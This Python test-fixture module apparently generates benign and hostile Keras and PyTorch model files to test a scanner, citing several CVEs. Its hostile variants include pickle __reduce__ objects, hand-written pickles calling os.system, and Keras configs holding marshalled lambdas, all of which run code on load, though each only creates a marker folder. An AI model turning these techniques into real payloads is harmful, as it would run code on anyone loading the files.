"""Files that run code in whoever builds the model, or loads the pickle, that they hold."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

from .cases import GOOD, HARMLESS, VICTIM, whole
from .keras_zip import CONFIG, central, put, write_archive


class Attack:
    """Pickles to a call that leaves a folder behind."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


def code_config(path: Path, is_hostile: bool) -> dict[str, Any]:
    """A model's configuration that runs code in whoever builds the model."""
    if not is_hostile:
        return CONFIG
    folder = str(path.parent / "ran")
    code = compile(f"lambda x: __import__('os').mkdir({folder!r})", "x", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    layers = [
        {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "dense", "function": function}},
        {"module": "os", "class_name": "system", "config": {"command": f"mkdir {folder}"}, "registered_name": "x>y"},
        {"class_name": "function", "module": "os", "config": "mkdir", "registered_name": "mkdir"},
        {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": folder}},
    ]
    return {**CONFIG, "config": {"name": "m", "layers": layers}}


def _command(path: Path) -> bytes:
    """A pickle, written by hand, that runs a command."""
    return b"cos\nsystem\n(S'mkdir " + str(path.parent / "ran").encode() + b"'\ntR."


@whole(".keras", "npz|pickle")
def weights_pickled(path: Path, is_hostile: bool) -> None:
    """Keras can store its weights in an .npz, as pickled objects: loading those runs code."""
    if not is_hostile:
        write_archive(path, {})
        return
    stream = io.BytesIO()
    np.savez(stream, dense=np.array([Attack(path.parent / "ran")], object))
    write_archive(path, {"model.weights.h5": None, "model.weights.npz": stream.getvalue()})  # type: ignore[dict-item]


@whole(".keras", outcome=HARMLESS)
def configuration_with_code(path: Path, is_hostile: bool) -> None:
    """CVE-2025-1550, CVE-2025-8747, CVE-2026-1462: what config.json names is imported, and its code run."""
    write_archive(path, {"config.json": json.dumps(code_config(path, is_hostile)).encode()})


@whole(".pt", "system", package="torch")
def pickle_that_runs_a_command_zip(path: Path, is_hostile: bool) -> None:
    """What torch.load ran before weights_only (CVE-2025-32434 for when it did not help)."""
    import torch

    torch.save({"w": torch.from_numpy(GOOD), "v": torch.from_numpy(VICTIM)}, path)
    if is_hostile:
        with zipfile.ZipFile(path) as archive:
            members = {member: archive.read(member) for member in archive.namelist()}
        with zipfile.ZipFile(path, "w") as archive:
            for member, data in members.items():
                archive.writestr(member, _command(path) if member.endswith("data.pkl") else data)


@whole(".pt", "system", package="torch")
def pickle_that_runs_a_command_legacy(path: Path, is_hostile: bool) -> None:
    """The same in the format of PyTorch before 1.6."""
    import torch

    if not is_hostile:
        state = {"w": torch.from_numpy(GOOD), "v": torch.from_numpy(VICTIM)}
        torch.save(state, path, _use_new_zipfile_serialization=False)
        return
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, system))
    path.write_bytes(head + _command(path) + pickle.dumps([], 2))


@whole(".pt", "damaged|UTF-8|utf-8|zip", package="torch")
def legacy_pickle_with_a_zip_behind_it(path: Path, is_hostile: bool) -> None:
    """The file begins as a legacy checkpoint and ends as a zip archive, of which a name is no UTF-8."""
    pickle_that_runs_a_command_legacy(path, False)
    if is_hostile:
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("name", b"")
        data = path.read_bytes()
        at = central(data, b"name")
        put(path, (at + 8, "<H", 0x800), (at + 46, "<I", 0xFFFFFFFF))
